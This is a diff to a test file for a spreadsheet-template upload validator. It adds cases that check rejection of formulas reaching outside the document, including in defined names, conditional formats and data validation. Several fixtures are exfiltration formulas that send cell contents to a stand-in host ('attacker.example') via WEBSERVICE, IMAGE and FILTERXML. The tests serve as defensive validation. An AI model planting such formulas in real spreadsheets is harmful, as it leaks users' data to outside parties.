@@ -354,10 +354,44 @@ describe('uploaded templates', () => {
     ],
     [
       'formulas that reach outside the sheet',
-      () => template({ ...VALID, E1: '=Prices!A1*2', E2: '=[1]Rates!B2', E3: '=WEBSERVICE("http://attacker.example/?"&A1)', E4: '=HYPERLINK("http://x.example","x")', E5: '=INDIRECT("Prices!A1")', E6: '=SUM(D4:D4)' }, true),
-      { E1: 'another sheet', E2: 'another workbook', E3: 'uses WEBSERVICE', E4: 'uses HYPERLINK', E5: 'INDIRECT' },
+      () =>
+        template(
+          {
+            ...VALID,
+            E1: '=Prices!A1*2',
+            E2: '=[1]Rates!B2',
+            E3: '=WEBSERVICE("http://attacker.example/?"&A1)',
+            E4: '=HYPERLINK("http://x.example","x")',
+            E5: '=INDIRECT("Prices!A1")',
+            E6: '=SUM(D4:D4)',
+            // As Excel writes newer functions in a file, and functions that fetch or call out under other names.
+            E7: '=_xlfn.WEBSERVICE("http://attacker.example/?"&A2)',
+            E8: '=_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://x.example"),"//a")',
+            E10: '=_xlfn.IMAGE("http://attacker.example/p.png")',
+            E11: '=CUBEVALUE("x","y")',
+            E12: '=_xludf.FETCH(A1)',
+            E13: '=_xlfn._xlws.SORT(D4:D4)',
+          },
+          true,
+        ),
+      { E1: 'another sheet', E2: 'another workbook', E3: 'uses WEBSERVICE', E4: 'uses HYPERLINK', E5: 'INDIRECT', E7: 'uses WEBSERVICE', E8: 'uses FILTERXML', E10: 'uses IMAGE', E11: 'uses CUBEVALUE', E12: 'user-defined function FETCH' },
       400,
       /problems/,
+    ],
+    [
+      'formulas outside the cells that reach outside the document',
+      async () => {
+        const book = new ExcelJS.Workbook();
+        const sheet = book.addWorksheet('Quote');
+        for (const [ref, v] of Object.entries(VALID)) sheet.getCell(ref).value = v;
+        book.definedNames.model = [{ name: 'feed', ranges: ['_xlfn.WEBSERVICE("http://attacker.example/?"&Quote!$A$1)'] }];
+        sheet.addConditionalFormatting({ ref: 'A1', rules: [{ type: 'expression', priority: 1, formulae: ['LEN(_xlfn.WEBSERVICE("http://cf.example"))>0'], style: {} }] });
+        sheet.getCell('B1').dataValidation = { type: 'custom', formulae: ['_xlfn.IMAGE("http://dv.example")'] };
+        return Buffer.from(await book.xlsx.writeBuffer());
+      },
+      { '': 'the defined name "feed" uses WEBSERVICE', ' ': 'the sheet "Quote" has a conditional format or data validation that uses WEBSERVICE', '  ': 'the sheet "Quote" has a conditional format or data validation that uses IMAGE' },
+      400,
+      /3 problems, the first: .*uses WEBSERVICE, which reaches outside the document/,
     ],
     ['a missing required placeholder', () => template({ ...VALID, D5: 'no total here' }), { '': 'missing the required placeholder ${totals.total}' }, 400, /missing the required placeholder/],
   ];
@@ -369,9 +403,10 @@ describe('uploaded templates', () => {
       expect(res.body.error.message).toMatch(message);
       if (status === 400) expect(res.body.error.details.issues.every((i: { pointer: string }) => i.pointer === '/file')).toBe(true);
       for (const [cell, reason] of Object.entries(cells)) {
-        expect(res.body.error.details.problems, `${cell}: ${reason}`).toContainEqual(expect.objectContaining({ ...(cell ? { sheet: 'Quote', cell } : {}), reason: expect.stringContaining(reason) }));
+        expect(res.body.error.details.problems, `${cell}: ${reason}`).toContainEqual(expect.objectContaining({ ...(cell.trim() ? { sheet: 'Quote', cell } : {}), reason: expect.stringContaining(reason) }));
       }
       if (name.startsWith('formulas')) expect(res.body.error.details.problems.map((p: { cell: string }) => p.cell)).not.toContain('E6');
+      if (name.startsWith('formulas')) expect(res.body.error.details.problems.map((p: { cell: string }) => p.cell)).not.toContain('E13');
       expect(await templateCount()).toBe(before);
     });
   }
